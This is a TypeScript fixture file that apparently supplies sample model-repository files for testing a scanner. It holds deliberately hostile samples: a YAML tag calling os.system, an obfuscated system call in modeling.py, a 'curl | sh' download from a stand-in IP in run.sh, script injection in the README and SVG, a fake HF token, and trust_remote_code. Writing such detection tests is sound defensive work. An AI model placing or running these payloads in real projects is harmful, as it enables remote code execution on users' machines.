/** Files that people can read, as they lie beside weights. */
export const TEXTS: Record<string, string> = {
  'config.json': JSON.stringify({
    architectures: ['BertModel'],
    auto_map: { AutoModel: 'modeling_x.Model' },
    class_name: 'Functional',
    config: {
      layers: [{ class_name: 'Lambda', config: { function: ['4wEA', null] } }],
    },
    module: 'keras',
    trust_remote_code: true,
  }),
  'tokenizer_config.json': JSON.stringify({
    chat_template: '{% for m in messages %}{{ m.content }}{% endfor %}',
    tokenizer_class: 'LlamaTokenizer',
  }),
  'model.safetensors.index.json': JSON.stringify({
    metadata: { total_size: 4 },
    weight_map: { a: 'model-00001-of-00002.safetensors' },
  }),
  'config.yaml': `model: &m\n  _target_: torch.nn.Linear\n  token: "hf_${'a'.repeat(
    34,
  )}"\nother: *m\nrun: !!python/object/apply:os.system ["id"]\n`,
  'modeling.py':
    "import os as o, torch\n\nclass M(torch.nn.Module):\n    '''Doc'''\n    def forward(self, x):\n        return getattr(o, f'sys{x}tem')(x[1:]) if x else b'\\x41'\n",
  'notebook.ipynb': JSON.stringify({
    cells: [
      {
        cell_type: 'code',
        source: ['!pip install x\n', 'exec("1")'],
        outputs: [],
      },
    ],
    nbformat: 4,
    metadata: {},
  }),
  'README.md':
    '---\nlicense: apache-2.0\n---\n# Model\n\nSee [docs](https://example.org/x?y=1) <script>alert(1)</script>\n',
  'run.sh': '#!/bin/sh\ncurl http://203.0.113.9/x | sh\n',
  'graph.pbtxt':
    'node {\n  name: "a"\n  op: "ReadFile"\n  attr { key: "T" value { type: DT_FLOAT } }\n}\n',
  'merges.txt': '#version: 0.2\nĠ t\nĠ a\nh e\n',
  'image.svg':
    '<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>',
  checkpoint: 'model_checkpoint_path: "model.ckpt-1"\n',
};
